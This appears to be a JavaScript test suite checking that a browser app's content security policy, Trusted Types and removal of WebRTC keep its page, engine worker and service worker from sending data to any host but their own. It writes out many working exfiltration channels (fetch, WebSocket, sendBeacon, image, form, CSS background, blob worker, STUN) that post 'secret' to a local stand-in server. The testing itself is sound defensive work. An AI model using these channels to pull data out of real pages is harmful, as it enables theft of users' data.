// The page that holds user data can reach nobody but its own host: on a host without headers, in the page, the engine's
// worker and the service worker. Every way out is also tried where no policy holds, so that these tests can fail.

import assert from "node:assert/strict";
import dgram from "node:dgram";
import http from "node:http";
import { after, before, beforeEach, test } from "node:test";
import { openApp, ready } from "./support/app.mjs";
import { facadePage } from "./support/browser.mjs";
import { policy, serve } from "./support/server.mjs";
import { browser, server, setUp } from "./support/setup.mjs";

/** The ways out of any script, by name; each is a request for `target` with that name at its end. */
const WAYS = `
  const opened = (object, failed = "error") => new Promise((resolve, reject) => {
    for (const event of ["open", "load"]) object.addEventListener(event, resolve);
    object.addEventListener(failed, () => (object.close?.(), reject(new Error(failed))));
  });
  const ways = {
    fetch: (url) => fetch(url, { mode: "no-cors", method: "POST", body: "secret" }),
    socket: (url) => opened(new WebSocket(url.replace("http", "ws"))),
    xhr(url) {
      const request = new XMLHttpRequest();
      request.open("POST", url);
      request.send("secret");
      return opened(request);
    },
    events: (url) => opened(new EventSource(url)),
    import: (url) => import(url),
    worker(url) {
      const code = "fetch(" + JSON.stringify(url) + ").catch(() => {}).then(() => postMessage(0))";
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      return new Promise((resolve, reject) => Object.assign(worker, { onmessage: resolve, onerror: reject }));
    },
  };
  const attempt = async (target, from) =>
    (await Promise.allSettled(Object.entries(ways).map(async ([name, go]) => go(target + name + "-" + from)))).length;
`;

/** And those of a document. */
const DOCUMENT_WAYS = `${WAYS}
  const element = (name, attributes) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    return document.body.appendChild(made);
  };
  Object.assign(ways, {
    beacon: (url) => navigator.sendBeacon(url, "secret"),
    image: (url) => element("img", { src: url }),
    script: (url) => element("script", { src: url }),
    style: (url) => element("link", { rel: "stylesheet", href: url }),
    prefetch: (url) => element("link", { rel: "prefetch", href: url }),
    frame: (url) => element("iframe", { src: url }),
    video: (url) => element("video", { src: url }),
    background: (url) => element("div", { style: "width: 9px; height: 9px; background: url(" + url + ")" }),
    form(url) {
      element("iframe", { name: "sink" });
      element("form", { action: url, method: "post", target: "sink" }).submit();
    },
  });
`;

/** Goes before the engine's worker, and before the service worker: it tries what it is told on a channel. */
const listening = (from) => `{ ${WAYS}
  const channel = new BroadcastChannel("ways-${from}");
  channel.onmessage = async ({ data: target }) => {
    if (typeof target !== "string") return;
    const tried = await attempt(target, "${from}");
    channel.postMessage({ tried, left: ["RTCPeerConnection", "WebTransport"].filter((name) => name in self) });
  };
}\n`;

setUp({ inject: listening("worker") });

let elsewhere;
const reached = [];
before(async () => {
  elsewhere = http.createServer((request, response) => {
    reached.push(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end("0");
  });
  elsewhere.on("upgrade", (request, socket) => (reached.push(request.url), socket.destroy()));
  await new Promise((ready) => elsewhere.listen(0, "127.0.0.1", ready));
});
beforeEach(() => (reached.length = 0));
after(async () => {
  elsewhere?.closeAllConnections();
  elsewhere?.close();
});

const target = () => `http://127.0.0.1:${elsewhere.address().port}/`;
const names = (from) => new Set(reached.map((url) => url.match(/^\/(\w+)-(\w+)$/)).filter((found) => found?.[2] === from).map(([, name]) => name));

/** Has a page try everything, and says how many ways that were. */
const tryPage = (page) => page.evaluate(`(async () => {
  ${DOCUMENT_WAYS}
  const tried = await attempt(${JSON.stringify(target())}, "page");
  await new Promise((later) => setTimeout(later, 1000));
  return tried;
})()`);

test("without a policy all ways out of a page are open", async () => {
  const page = await facadePage(await browser.newContext(), server, "open.html");
  const tried = await tryPage(page);
  assert.equal(names("page").size, tried, [...names("page")].join());
  await page.context().close();
});

// Trusted Types stop some before the rest of the policy is asked, so that is tried alone too.
for (const path of ["blank.html", "untyped.html"]) {
  test(`under the policy none is: ${path}`, async () => {
    const page = await facadePage(await browser.newContext(), server, path);
    await tryPage(page);
    assert.deepEqual(reached, []);
    await page.context().close();
  });
}

/** Has a worker try everything. */
const tryOn = (page, from) => page.evaluate(([from, target]) => {
  const channel = new BroadcastChannel(`ways-${from}`);
  const done = new Promise((heard) => (channel.onmessage = ({ data }) => heard(data)));
  channel.postMessage(target);
  return done;
}, [from, target()]);

const FROM_WORKER = ["events", "fetch", "import", "socket", "worker", "xhr"];

test("nothing leaves from the engine's worker", async () => {
  const page = await facadePage(await browser.newContext(), server);
  await page.evaluate(() => Luthier.options());
  const { tried, left } = await tryOn(page, "worker");
  assert.equal(tried, FROM_WORKER.length);
  assert.deepEqual(left, []);
  assert.deepEqual(reached, []);
  await page.context().close();
});

test("which is because it starts from a blob: started from its URL, the same worker is under no policy", async () => {
  const page = await facadePage(await browser.newContext(), server, "untyped.html");
  await page.evaluate(async () => {
    new Worker("../luthier-web/dist/worker_baseline.js", { type: "module" });
    await new Promise((later) => setTimeout(later, 1000));
  });
  await tryOn(page, "worker");
  assert.deepEqual([...names("worker")].sort(), FROM_WORKER);
  await page.context().close();
});

test("WebRTC, which no policy stops, is taken away before the page reads anything", async () => {
  const stun = dgram.createSocket("udp4");
  let packets = 0;
  stun.on("message", () => packets++);
  await new Promise((bound) => stun.bind(0, "127.0.0.1", bound));
  const call = (page) => page.evaluate(async (port) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    connection.createDataChannel("out");
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((later) => setTimeout(later, 1500));
  }, stun.address().port).then(() => null, (error) => error.message);

  const bare = await facadePage(await browser.newContext(), server, "blank.html");
  assert.equal(await call(bare), null);
  assert.ok(packets > 0, "the policy alone does not stop it");
  await bare.context().close();
  packets = 0;
  for (const path of ["", "models.html"]) {
    const page = await browser.newPage();
    await page.goto(server.app + path);
    await page.getByRole("heading", { level: 1 }).waitFor();
    assert.match(await call(page), /RTCPeerConnection is not defined/);
    assert.deepEqual(await page.evaluate(() => ["webkitRTCPeerConnection", "WebTransport"].filter((name) => name in window)), []);
    await page.close();
  }
  assert.equal(packets, 0);
  stun.close();
});

test("text does not become code", async () => {
  const trying = (page) => page.evaluate(() => {
    const tries = {
      markup: () => (document.createElement("div").innerHTML = "<b>text</b>"),
      script: () => (document.createElement("script").text = "0"),
      worker: () => new Worker("worker.js"),
    };
    return Object.entries(tries).filter(([, attempt]) => { try { attempt(); return true; } catch { return false; } }).map(([name]) => name);
  });
  const page = await browser.newPage();
  await page.goto(`${server.app}untyped.html`);
  assert.deepEqual(await trying(page), ["markup", "script", "worker"]);
  await page.goto(server.app);
  assert.deepEqual(await trying(page), []);
  await page.close();
});

/** A service worker that would try everything, with or without the policy as a header. */
async function withServiceWorker(t, headers, work) {
  const inject = (path, body) => path.endsWith("service-worker.js") ? { body: listening("service") + body, headers } : {};
  const host = await serve({ alter: inject });
  t.after(host.close);
  const page = await openApp(await browser.newContext(), host);
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => null));
  await work(page);
  await page.context().close();
}

test("nothing leaves from the service worker where the host sends the policy; elsewhere that is up to its code", async (t) => {
  await withServiceWorker(t, { "content-security-policy": policy() }, async (page) => {
    await tryOn(page, "service");
    assert.deepEqual(reached, []);
  });
  await withServiceWorker(t, {}, async (page) => {
    await tryOn(page, "service");
    assert.ok(names("service").has("fetch") && names("service").has("socket"), String(reached));
  });
});

test("and its code asks for the page's own files only, whatever it is told", async () => {
  const page = await openApp(await browser.newContext(), server);
  await page.evaluate(async (target) => {
    const { active } = await navigator.serviceWorker.ready;
    for (const message of [target, { url: target }, { type: "fetch", url: target }, "requests?", "take over"]) active.postMessage(message);
    await fetch(target).catch(() => {});
    await new Promise((later) => setTimeout(later, 500));
  }, target());
  assert.deepEqual(reached, []);
  await page.context().close();
});

test("the page shows what it, the engine and the service worker have asked for, and what was refused", async () => {
  const page = await openApp(await browser.newContext(), server);
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => null));
  await ready(page);
  await page.locator(".private").getByText("nothing sent elsewhere").waitFor();
  await page.locator(".private").click();
  const panel = page.getByRole("dialog", { name: "Your data stay here" });
  await panel.getByText("Every request").click();
  const row = (file, by) => panel.getByRole("row").filter({ hasText: file }).filter({ hasText: by }).first();
  await row("/app/", "the page").waitFor();
  await row(".wasm", "the engine").waitFor();
  await row("demo/train.jsonl", "the service worker").waitFor();
  await panel.getByText("every one to").waitFor();
  assert.equal(await panel.locator(".tag").count(), 0);
  await tryOn(page, "worker");
  await row(target(), "the engine").getByText("refused").waitFor();
  await page.context().close();
});
